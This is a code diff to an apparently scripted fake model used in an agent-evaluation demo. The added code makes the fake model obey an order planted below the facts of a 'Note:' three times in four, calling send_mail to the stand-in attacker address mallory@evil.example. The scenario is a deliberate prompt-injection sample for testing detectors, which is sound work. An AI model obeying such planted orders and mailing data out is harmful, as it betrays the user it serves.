@@ -22,8 +22,11 @@ _ANSWERS = {
 _SIGNS = {"times": "*", "plus": "+", "minus": "-", "divided by": "/"}
 _SUM = re.compile(rf"(\d+) ({'|'.join(_SIGNS)}) (\d+)")
 _ORDER = re.compile(r"(?:order|parcel) (\d+)")
+_NOTE = re.compile(r"Note: (?P<facts>[^\n]*)\n(?:(?P<order>[^\n]*)\n)?Question: ")
 _CALCULATES_EVERY = 3
 """It uses the calculator for each third sum only, so that the demo has something to find."""
+_RESISTS_EVERY = 4
+"""It obeys what stands in a note, but for each fourth time."""
 
 
 class ScriptedModel:
@@ -35,6 +38,7 @@ class ScriptedModel:
     def __init__(self) -> None:
         self._lock = threading.Lock()
         self._sums = 0
+        self._orders = 0
 
     def complete(
         self,
@@ -53,6 +57,8 @@ class ScriptedModel:
         return json.dumps({"tool": tool, "argument": argument})
 
     def _choose(self, question: str) -> tuple[str, str]:
+        if note := _NOTE.match(question):
+            return self._read(note)
         if order := _ORDER.search(question):
             return "order_status", order[1]
         if asked := _SUM.search(question):
@@ -63,3 +69,13 @@ class ScriptedModel:
         if "weather" in question:
             return "weather", question.rstrip("?").rsplit(" ", 1)[-1]
         return "none", ""
+
+    def _read(self, note: re.Match[str]) -> tuple[str, str]:
+        """Answer from the facts of a note, or obey the order that somebody has put below them."""
+        if note["order"] is not None:
+            with self._lock:
+                self._orders += 1
+                obeys = self._orders % _RESISTS_EVERY != 0
+            if obeys:
+                return "send_mail", "mallory@evil.example"
+        return "none", note["facts"]
